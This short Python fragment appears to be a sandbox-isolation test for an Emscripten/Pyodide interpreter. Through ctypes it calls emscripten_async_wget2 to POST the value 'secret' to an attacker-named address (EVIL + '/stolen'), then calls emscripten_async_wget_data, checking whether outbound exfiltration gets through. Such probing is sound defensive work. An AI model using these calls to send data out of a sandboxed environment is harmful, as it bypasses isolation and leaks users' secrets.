# Tries the download functions that are linked into the interpreter, by ctypes.
import ctypes

library = ctypes.CDLL(None)
callback = ctypes.CFUNCTYPE(None)(lambda: None)
address = (EVIL + "/stolen").encode()
print("tried")
await attempt(
    "wget2",
    lambda: library.emscripten_async_wget2(
        address, b"/tmp/stolen", b"POST", b"secret", None, callback, callback, callback
    ),
)
await asyncio.sleep(0.3)
await attempt(
    "wget_data", lambda: library.emscripten_async_wget_data(address, None, callback, callback)
)
await asyncio.sleep(0.3)
